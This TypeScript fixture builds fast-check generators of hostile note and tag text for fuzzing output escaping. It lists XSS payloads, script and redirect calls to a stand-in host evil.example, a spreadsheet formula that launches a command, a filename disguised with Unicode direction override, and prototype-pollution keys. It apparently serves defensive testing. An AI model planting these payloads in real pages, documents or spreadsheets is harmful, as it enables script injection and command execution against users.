/**
 * Text a hostile or careless colleague can put in a note, a tag, a name or a bundle: markup for
 * every output format (HTML, Markdown, Word XML, spreadsheet formulas), odd Unicode and control
 * characters, alone or mixed with ordinary words and random strings.
 */
import fc from 'fast-check';

export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '</textarea></title></style><script>alert(1)</script>',
  '<!-- hidden -->',
  '<!--',
  '-->',
  '<![CDATA[x]]>',
  ']]>',
  '<?xml version="1.0"?>',
  '<w:t>injected</w:t>',
  '</w:t></w:r><w:r><w:t>injected',
  '&amp; &lt;script&gt; &#60;script&#62; &#x3C;',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '[click](javascript:alert(1))',
  '[click]( javascript:alert(1) )',
  '[click](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)',
  '[x]:\njavascript:alert(1)',
  '![pixel](https://evil.example/p.png)',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<https://evil.example>',
  '`code`',
  '```\nfenced',
  '~~~',
  '| a | b |\n|---|---|\n| c | d |',
  '|',
  '\n# Injected heading',
  '\n\n## Injected section',
  '# Heading',
  'Setext\n===',
  'Setext\n---',
  '---',
  '* * *',
  '> quoted',
  '- item',
  '1. item',
  '    indented code',
  '\\',
  '*bold* **strong** _em_',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '"quoted, with comma"',
  '"',
  "'",
  ',',
  '\r\n',
  '\n',
  '\r',
  '\u0000',
  '\u0007\u001b[31m',
  '\u000b\u000c',
  '\ufffe\uffff',
  '\ud800',
  '\udc00x',
  '😀',
  '\u202egnp.exe',
  '\u2028\u2029',
  '\u00a0',
  'ﬁ Ǆ ẞ',
  '𝕏',
  '__proto__',
  'constructor',
];

const payload = fc.constantFrom(...PAYLOADS);

/** Any note text: a payload, payloads mixed with words, or a random string of any kind. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: payload },
  {
    weight: 3,
    arbitrary: fc
      .array(fc.oneof(payload, fc.constantFrom('word', ' ', '\n', 'a b', 'Article 55(1)')), {
        minLength: 1,
        maxLength: 6,
      })
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
);

/** A tag: never empty (the model's rule), otherwise anything. */
export const hostileTag: fc.Arbitrary<string> = hostileText.filter((t) => t.length > 0 && t.length <= 200);
